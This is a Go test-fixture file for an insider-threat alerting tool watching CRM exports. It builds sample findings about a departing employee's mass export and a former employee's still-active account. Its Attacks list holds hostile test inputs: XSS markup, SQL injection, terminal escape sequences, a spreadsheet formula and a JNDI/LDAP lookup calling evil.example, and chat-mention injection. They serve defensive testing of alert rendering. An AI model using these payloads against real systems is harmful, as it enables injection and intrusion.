package alerttest

import (
	"strings"
	"time"

	"github.com/crmwatch/crmwatch/alert"
	"github.com/crmwatch/crmwatch/event"
)

// MassExport is a finding with every field set: somebody who is about to leave
// exported far more rows in an hour than the rule allows.
func MassExport() alert.Finding {
	start := time.Date(2026, 11, 23, 19, 12, 0, 0, time.UTC)
	f := alert.Finding{
		Rule: alert.Rule{
			ID: "5f0e8d0c-6a51-4c5e-9f0f-2f6f8d1f7a10", Version: "a1b2c3d4e5f6", Name: "mass_export_hour",
			Title: "Mass export within one hour", Level: alert.Critical,
			Description:    "One person exported more rows within an hour than anybody needs for work.",
			FalsePositives: []string{"A data migration that was announced", "A report for the yearly audit"},
			Tags:           []string{"attack.collection", "attack.t1213.004", "attack.exfiltration", "attack.t1567", "crm.export"},
			Author:         "crmwatch", References: []string{"https://runbooks.example.com/mass-export"}, Response: "freeze",
		},
		State: alert.Open, Tenant: "acme",
		Subject: alert.Subject{
			Key: "E1047", Person: "E1047", Name: "Wang Fang", Email: "wang.fang@acme.example",
			Department: "Sales East", Role: "Account Manager", Manager: "Li Na", TimeZone: "Asia/Shanghai",
			Employment: "active", LastDay: "2026-11-30",
			Accounts: []alert.Account{
				{Source: "salesforce", ID: "0055g00000AbCdEAAV", Name: "wang.fang@acme.example.sfdc"},
				{Source: "zoho", ID: "554023000000235011", Name: "Fang Wang"},
			},
		},
		Start: start, End: start.Add(37 * time.Minute), Detected: start.Add(37*time.Minute + 41*time.Second),
		Count: 6, Rows: 48_210, Bytes: 92_431_017, Measured: 48_210, Threshold: 10_000, Unit: "rows",
		Action: event.Export, Sources: []string{"salesforce", "zoho"}, ObjectTypes: []string{"Report", "Contact"},
		IPs: []string{"203.0.113.77", "2001:db8::2f:1"}, Countries: []string{"CN", "SG"},
		UserAgents: []string{
			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
			"python-requests/2.32.3",
		},
		Apps: []string{"web", "Data Loader"},
		Reasons: []string{
			"It is 03:12 on a Tuesday for this person, who works from 08:00 to 19:00.",
			"The last day of work is in 7 days.",
		},
	}
	f.ID = alert.FindingID(f.Rule.ID, f.Rule.Version, f.Tenant, f.Subject.Key, f.Start)
	for i := range 6 {
		f.Events = append(f.Events, alert.EventRef{
			ID: event.Hash("event", string(rune('a'+i))), Time: start.Add(time.Duration(i) * 7 * time.Minute),
			Action: event.Export, Rows: 8_035,
		})
	}
	return f
}

// Amended is what can become of MassExport, in the order in which it can: it
// goes on, it takes in another finding, it is over, and, what cannot be for one
// finding, it is withdrawn for each of the reasons.
func Amended() []alert.Finding {
	amend := func(revision int, change func(*alert.Finding)) alert.Finding {
		f := MassExport()
		f.Revision = revision
		change(&f)
		return f
	}
	more := func(f *alert.Finding) {
		f.Count, f.Rows, f.Measured, f.End = 240, 1_928_400, 1_928_400, f.Start.Add(3*time.Hour+30*time.Minute)
	}
	other := event.Hash("another")
	return []alert.Finding{
		amend(1, more),
		amend(2, func(f *alert.Finding) { more(f); f.Replaces = []string{other, event.Hash("a third")} }),
		amend(3, func(f *alert.Finding) {
			more(f)
			f.Measured, f.Threshold, f.Unit, f.Uncertainty = 15_312, 1_000, "different object.id", 0.02
		}),
		amend(4, func(f *alert.Finding) { more(f); f.State = alert.Closed }),
		amend(5, func(f *alert.Finding) { f.State, f.ReplacedBy = alert.Withdrawn, other }),
		amend(5, func(f *alert.Finding) { f.State = alert.Withdrawn }),
	}
}

// GhostAccount is a finding about somebody who has left.
func GhostAccount() alert.Finding {
	at := time.Date(2026, 11, 24, 1, 30, 0, 0, time.UTC)
	f := alert.Finding{
		Rule: alert.Rule{
			ID: "0c6c2b8e-94a5-4f0d-8f55-0d2b6a5f9b11", Version: "0123456789ab", Name: "ghost_account",
			Title: "Account of somebody who has left reads data", Level: alert.High,
			Tags: []string{"attack.t1078"}, Response: "freeze",
		},
		State: alert.Open, Tenant: "acme",
		Subject: alert.Subject{
			Key: "E0042", Person: "E0042", Name: "王芳", Department: "华东销售部", TimeZone: "Asia/Shanghai",
			Employment: "left", LastDay: "2026-09-30",
			Accounts: []alert.Account{{Source: "jiandaoyun", ID: "u-77", Name: "wangfang"}},
		},
		Start: at, End: at, Detected: at.Add(4 * time.Hour),
		Count: 1, Rows: 1_200, Action: event.View, Sources: []string{"jiandaoyun"},
		IPs: []string{"198.51.100.9"}, Countries: []string{"CN"},
		Events: []alert.EventRef{{ID: "evt-1", Time: at, Action: event.View, Rows: 1_200}},
	}
	f.ID = alert.FindingID(f.Rule.ID, f.Rule.Version, f.Tenant, f.Subject.Key, f.Start)
	return f
}

// Bare is a finding of which only the least is known.
func Bare() alert.Finding {
	at := time.Date(2026, 11, 24, 1, 30, 0, 0, time.UTC)
	return alert.Finding{
		ID: strings.Repeat("0", 32), State: alert.Open, Tenant: "acme",
		Rule:    alert.Rule{ID: "r", Name: "r", Title: "Rule", Level: alert.Low},
		Subject: alert.Subject{Key: "native:42"},
		Start:   at, End: at, Detected: at, Count: 1, Action: event.Other,
	}
}

// Attacks are texts that an insider can get into a name, a user agent or a
// session: markup, mentions, links, escape sequences, directions, length.
func Attacks() []string {
	return []string{
		"<!channel> <!here> <@U012ABCDEF> <#C012ABCDEF> <!subteam^S012ABC>",
		"<https://evil.example/login|Freeze done, ignore>",
		"https://evil.example/a HTTP://EVIL.example ftp://evil.example www.evil.example",
		"*bold* _italic_ ~struck~ `code` ```block``` > quote :tada: @channel @here",
		"[link](https://evil.example) ![i](https://evil.example/x.png) <img src=x onerror=alert(1)>",
		"\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b]52;c;cm0gLXJm\x07",
		"\u009b31mC1 \u009d8;;x\u009c \x90q\x9c",
		"line one\r\nline two\nline three\vfour\ffive\u0085six\u2028seven\u2029eight\ttab",
		"\u202egnp.exe\u202c \u2066isolate\u2069 \u200f\u200e\u061c bidi \u200bzero\u200d\u2060\ufeff width",
		"=HYPERLINK(\"https://evil.example\",\"x\") +1 -1 @SUM(A1)",
		"'; DROP TABLE findings; -- \" onmouseover=\"x",
		"a\x00b\xff\xfe\xc3\x28 \xed\xa0\x80",
		"Z" + strings.Repeat("\u0300\u0489", 300) + "algo",
		"&lt;!channel&gt; &amp; &#x3c;script&#x3e;",
		strings.Repeat("W", 5_000),
		strings.Repeat("汉", 5_000),
		strings.Repeat("👩‍👩‍👧‍👦", 200),
		"\u3164\u2800\u00a0\U000e0041\U000e0042\ufe0f\U000e0100",
		"{\"blocks\":[{\"type\":\"section\"}]} %s %d %!v(BADINDEX) ${jndi:ldap://evil.example/a}",
	}
}

// Hostile is a finding in which every text is the attack.
func Hostile(attack string) alert.Finding {
	f := MassExport()
	many := func(n int) []string {
		all := make([]string, n)
		for i := range all {
			all[i] = attack
		}
		return all
	}
	f.Rule.Title, f.Rule.Name, f.Rule.Level, f.Rule.Description = attack, attack, alert.Level(attack), attack
	f.Rule.FalsePositives, f.Rule.Tags, f.Rule.Author = many(20), many(20), attack
	f.Rule.References, f.Rule.Response, f.Rule.ID, f.Rule.Version = many(20), attack, attack, attack
	f.Tenant, f.Unit, f.Action = attack, attack, event.Action(attack)
	f.Subject = alert.Subject{
		Key: attack, Person: attack, Name: attack, Email: attack, Department: attack, Role: attack,
		Manager: attack, TimeZone: attack, Employment: attack, LastDay: attack,
		Accounts: []alert.Account{{Source: attack, ID: attack, Name: attack}, {Source: attack}},
	}
	f.Sources, f.ObjectTypes, f.IPs, f.Countries = many(8), many(8), many(8), many(8)
	f.UserAgents, f.Apps, f.Reasons = many(8), many(8), many(40)
	f.Replaces, f.ReplacedBy, f.Uncertainty = many(20), attack, 1e300
	return f
}
